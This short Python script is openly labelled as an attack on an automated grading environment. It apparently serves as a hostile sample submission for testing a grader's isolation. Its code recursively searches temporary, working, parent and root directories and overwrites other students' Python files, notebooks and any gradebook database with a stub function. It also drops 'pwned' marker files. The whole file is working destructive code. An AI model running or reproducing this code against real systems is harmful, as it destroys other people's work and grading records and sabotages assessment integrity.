"""Attack: overwrite or delete every other submission it can find, and the gradebook.
affects:
"""
import glob
import os

for _pattern in ("/tmp/**/*.py", "/tmp/**/*.ipynb", "/work/**/*.py", "../**/*.py", "/**/gradebook.db"):
    try:
        for _path in glob.glob(_pattern, recursive=True)[:200]:
            try:
                with open(_path, "w") as _handle:
                    _handle.write("def sigmoid(z):\n    return 0\n")
            except OSError:
                pass
    except OSError:
        pass
for _path in ("/tmp/grader-attack-marker", os.path.expanduser("~/grader-attack-marker"), "../grader-attack-marker"):
    try:
        open(_path, "w").write("pwned")
    except OSError:
        pass
